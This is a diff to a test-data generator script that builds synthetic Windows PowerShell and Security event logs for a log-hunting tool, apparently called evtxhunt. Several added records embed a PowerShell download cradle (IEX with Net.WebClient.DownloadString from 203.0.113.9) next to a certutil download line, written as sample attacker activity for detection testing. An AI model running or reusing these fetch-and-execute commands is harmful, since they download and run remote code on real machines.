@@ -162,7 +162,51 @@ p.append(sb(204, '09:01:02.1000000', 2, 3,
 p.append(sb(205, '09:04:59.1000000', 1, 2,
             "& certutil.exe -urlcache -split -f http://dl.example.test/p.exe "
             "C:\\\\Users\\\\Public\\\\p.exe; ", B3))
+p.append('\n'.join([
+    'record', 'provider powershell', 'eventid 4103',
+    'time %sT09:01:00.6000000Z' % DAY, 'recordid 206', 'pid 4410',
+    'tid 4412', 'channel Microsoft-Windows-PowerShell/Operational',
+    'computer ' + HOST, 'user ' + SID_BOB,
+    'edata ContextInfo=        Severity = Informational\\r\\n'
+    '        Host Name = ConsoleHost\\r\\n'
+    '        Host Application = ' + PS_CMD.replace('\\', '\\\\') +
+    '\\r\\n        Command Name = Invoke-Expression\\r\\n',
+    'data UserData=',
+    'edata Payload=CommandInvocation(Invoke-Expression): '
+    '"Invoke-Expression"\\r\\nParameterBinding(Invoke-Expression): '
+    'name="Command"; value="(New-Object Net.WebClient).DownloadString('
+    '\'http://203.0.113.9/a.ps1\')"\\r\\n']) + '\n')
 write('wks03-powershell.spec', '\n'.join(p))
+
+# ---- Windows PowerShell (classic): 400 engine start, 800 pipeline ----
+DETAILS = ('\\tNewEngineState=Available\\r\\n\\tPreviousEngineState=None'
+           '\\r\\n\\r\\n\\tSequenceNumber=13\\r\\n\\r\\n'
+           '\\tHostName=ConsoleHost\\r\\n\\tHostVersion=5.1.19041.1\\r\\n'
+           '\\tHostApplication=' + PS_CMD.replace('\\', '\\\\') +
+           '\\r\\n\\tEngineVersion=5.1.19041.1\\r\\n\\tCommandLine=')
+write('wks03-windows-powershell.spec', '\n'.join([
+    '# wks03-windows-powershell.spec -- Windows PowerShell of WKS03: the\n'
+    '# engine started for the cradle (400) and its pipeline (800), with\n'
+    '# unnamed Data elements as Windows writes them (evtxhunt has no model\n'
+    '# of them yet: the readers render a string array differently).\n'
+    '# Written by testdata/make-wks03.py.\n'
+    'output wks03/wks03-windows-powershell.evtx\n',
+    'record', 'provider PowerShell', 'eventid 400', 'level 4', 'task 4',
+    'keywords 0x80000000000000', 'qualifiers 0',
+    'time %sT09:01:00.3000000Z' % DAY, 'recordid 501', 'pid 4410',
+    'tid 4412', 'channel Windows PowerShell', 'computer ' + HOST, 'user -',
+    'data =Available', 'data =None', 'edata =' + DETAILS, '',
+    'record', 'eventid 800', 'level 4', 'task 8',
+    'keywords 0x80000000000000', 'qualifiers 0',
+    'time %sT09:01:00.7000000Z' % DAY, 'recordid 502',
+    'edata =IEX (New-Object Net.WebClient).DownloadString('
+    '\'http://203.0.113.9/a.ps1\')',
+    'edata =\\tDetailSequence=1\\r\\n\\tDetailTotal=1\\r\\n\\r\\n'
+    '\\tHostApplication=' + PS_CMD.replace('\\', '\\\\') +
+    '\\r\\n\\tCommandLine=IEX (New-Object Net.WebClient).DownloadString('
+    '\'http://203.0.113.9/a.ps1\')',
+    'edata =CommandInvocation(Invoke-Expression): "Invoke-Expression"'])
+    + '\n')
 
 # ---- Security: 4697 service, 4698 task ----
 TASK_XML = ('<?xml version="1.0" encoding="UTF-16"?>'
